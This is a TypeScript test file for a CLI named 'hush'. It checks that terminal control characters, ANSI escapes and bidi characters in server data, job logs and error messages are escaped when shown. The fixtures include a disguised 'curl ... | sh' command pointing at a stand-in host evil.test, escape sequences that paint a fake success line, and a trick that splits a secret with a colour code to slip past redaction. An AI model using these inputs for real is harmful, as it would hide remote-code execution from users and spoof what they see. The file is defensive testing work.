import http from 'node:http';
import type { AddressInfo } from 'node:net';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { openDatabase } from '../../src/store/db.js';
import { bootstrappedServerEnv, runHush, signedInCli, spawnServer } from '../helpers/cli.js';
import { DIALECTS } from '../helpers/databases.js';
import { track } from '../helpers/resources.js';

// What a terminal acts on instead of showing: C0 controls (ESC, CR, BS, …), DEL, C1 controls and
// bidi controls. Text the CLI prints for people must have none of them (but LF, and TAB in logs).
const CONTROL_CLASS =
  '[\\u0000-\\u0008\\u000b-\\u001f\\u007f-\\u009f\\u202a-\\u202e\\u2066-\\u2069]';
const TERMINAL_CONTROL = new RegExp(CONTROL_CLASS);

/** Runs an ad-hoc shell script as a job of `project`. */
const jobArgs = (project: string, script: string, ...flags: string[]) => [
  'job',
  'run',
  '--project',
  project,
  ...flags,
  '--',
  'sh',
  '-c',
  script,
];

describe.each(DIALECTS)('control characters from the server on %s', (dialect) => {
  let cliEnv: Record<string, string>;
  let server: Awaited<ReturnType<typeof spawnServer>>;
  let database: { dataDir: string; databaseUrl?: string };
  const hush = (args: string[], stdin?: string, env = cliEnv) => runHush(args, { env, stdin });

  beforeAll(async () => {
    const { db, serverEnv } = await bootstrappedServerEnv(dialect);
    database = db;
    server = await spawnServer(serverEnv);
    cliEnv = await signedInCli(server.url);
    const project = await hush(['project', 'create', 'esc']);
    expect(project.code, project.stderr).toBe(0);
  }, 90_000);
  afterAll(() => server.stop());

  it('shows a service command that rewrites its own line for what it is', async () => {
    const command = 'curl -s http://evil.test/x | sh\r\u001b[2Kecho hello';
    const created = await hush([
      'service',
      'create',
      'innocent',
      '--project',
      'esc',
      '--command',
      command,
    ]);
    expect(created.code, created.stderr).toBe(0);
    const list = await hush(['service', 'list', '--project', 'esc']);
    expect(list.code, list.stderr).toBe(0);
    expect(list.stdout).toContain('curl -s http://evil.test/x | sh\\r\\x1b[2Kecho hello');
    expect(list.stdout).not.toMatch(TERMINAL_CONTROL);
    // --json stays exact: the command parses back as it is.
    const json = await hush(['service', 'list', '--project', 'esc', '--json']);
    expect((JSON.parse(json.stdout) as { command: string }[])[0]?.command).toBe(command);
  });

  it('shows a project name with ESC, CR, C1 and bidi controls escaped; --json stays exact', async () => {
    const name = 'Evil\u001b]0;pwned\u0007\rOK\u009b2K\u202eemag\u200b';
    // The server refuses such a name now; one stored before that rule is still shown safely.
    const refused = await hush(['project', 'create', 'evil', '--name', name]);
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toContain('invisible or direction-changing');
    const created = await hush(['project', 'create', 'evil', '--name', 'Evil']);
    expect(created.code, created.stderr).toBe(0);
    const direct = openDatabase(database);
    try {
      await direct.db.updateTable('projects').set({ name }).where('slug', '=', 'evil').execute();
    } finally {
      await direct.close();
    }
    const list = await hush(['project', 'list']);
    // Zero-width characters too: in a name they make look-alikes (owner\u200b@…).
    expect(list.stdout).toContain('Evil\\x1b]0;pwned\\x07\\rOK\\x9b2K\\u202eemag\\u200b');
    expect(list.stdout).not.toMatch(TERMINAL_CONTROL);
    const json = await hush(['project', 'list', '--json']);
    // JSON.stringify leaves C1 and bidi controls raw: the CLI writes them as \u escapes.
    expect(json.stdout).not.toMatch(TERMINAL_CONTROL);
    expect(json.stdout).toContain('\\u009b2K\\u202eemag');
    const rows = JSON.parse(json.stdout) as { slug: string; name: string }[];
    expect(rows.find((r) => r.slug === 'evil')?.name).toBe(name);
  });

  it('shows the escapes of a job that paints a fake success line; --raw passes them through', async () => {
    const script =
      "printf 'building\\n'; printf '\\033[1A\\033[2K[hush] job succeeded (exit 0)\\n'; exit 3";
    const run = await hush(jobArgs('esc', script));
    expect(run.code).toBe(3);
    expect(run.stdout).toBe('building\n\\x1b[1A\\x1b[2K[hush] job succeeded (exit 0)\n');
    expect(run.stderr).toMatch(/hush: job \S+ failed/);
    expect(run.stdout + run.stderr).not.toMatch(TERMINAL_CONTROL);

    const raw = await hush(jobArgs('esc', script, '--raw'));
    expect(raw.code).toBe(3);
    expect(raw.stdout).toBe('building\n\u001b[1A\u001b[2K[hush] job succeeded (exit 0)\n');

    const jobs = JSON.parse((await hush(['job', 'list', '--project', 'esc', '--json'])).stdout) as {
      id: string;
    }[];
    const id = jobs[0]!.id;
    const logs = await hush(['job', 'logs', id]);
    expect(logs.stdout).toBe('building\n\\x1b[1A\\x1b[2K[hush] job succeeded (exit 0)\n');
    const followed = await hush(['job', 'logs', id, '--follow']);
    expect(followed.stdout).toBe(logs.stdout);
    const rawLogs = await hush(['job', 'logs', id, '--raw']);
    expect(rawLogs.stdout).toBe('building\n\u001b[1A\u001b[2K[hush] job succeeded (exit 0)\n');
    const rawFollowed = await hush(['job', 'logs', id, '--follow', '--raw']);
    expect(rawFollowed.stdout).toBe(rawLogs.stdout);
    // --json is the log as it is, in exact JSON.
    const json = await hush(['job', 'logs', id, '--json']);
    expect((JSON.parse(json.stdout) as { text: string }[]).map((l) => l.text).join('')).toBe(
      rawLogs.stdout,
    );

    for (const args of [
      ['job', 'run', '--help'],
      ['job', 'logs', '--help'],
    ]) {
      const help = await hush(args);
      expect(help.stdout).toContain('--raw');
    }
  });

  it('keeps the line breaks, tabs and CRLF line ends of a log, and shows a lone CR', async () => {
    const run = await hush(jobArgs('esc', "printf 'a\\tb\\r\\nc\\rd\\n'; printf 'e\\r' >&2"));
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toBe('a\tb\r\nc\\rd\n');
    expect(run.stderr).toContain('e\\r');
  });

  it('redacts a value a job prints with a colour sequence inside it', async () => {
    const added = await hush(
      ['secret', 'add', 'env', 'TOKEN', '--value-stdin', '--project', 'esc'],
      'hunter2-very-secret-value\n',
    );
    expect(added.code, added.stderr).toBe(0);
    // "hunt", a colour reset, then the rest: a terminal shows the value whole.
    const script = 'printf \'%.4s\\033[0m%s\\n\' "$TOKEN" "${TOKEN#????}"';
    const raw = await hush(jobArgs('esc', script, '--raw'));
    expect(raw.code, raw.stderr).toBe(0);
    expect(raw.stdout).toBe('[REDACTED]\u001b[0m\n');
    const shown = await hush(jobArgs('esc', script));
    expect(shown.stdout).toBe('[REDACTED]\\x1b[0m\n');
  });

  it('shows an error message from the server with its control characters escaped', async () => {
    // The server names the service it did not find: the name is the caller's, escapes and all.
    const missing = await hush([
      'job',
      'run',
      '--project',
      'esc',
      '--service',
      'x\u001b[2K\rhush: job succeeded',
    ]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toBe(
      'hush: SERVICE_NOT_FOUND: service "x\\x1b[2K\\rhush: job succeeded" not found in esc\n',
    );

    // A server (or something posing as one) whose error says anything it likes.
    const fake = http.createServer((_req, res) => {
      res.writeHead(500, { 'content-type': 'application/json' });
      res.end(
        JSON.stringify({
          error: { code: 'BOOM\u001b[31m', message: 'bad\r\u009b2K\u202eevil\u001b]0;title\u0007' },
        }),
      );
    });
    await new Promise<void>((resolve) => fake.listen(0, '127.0.0.1', resolve));
    const closing = track('fake server', () => new Promise<void>((r) => fake.close(() => r())));
    const url = `http://127.0.0.1:${(fake.address() as AddressInfo).port}`;
    const r = await hush(['project', 'list', '--org', 'acme', '--url', url]).finally(() =>
      closing.close(),
    );
    expect(r.code).toBe(1);
    expect(r.stderr).toBe('hush: BOOM\\x1b[31m: bad\\r\\x9b2K\\u202eevil\\x1b]0;title\\x07\n');
  });
});
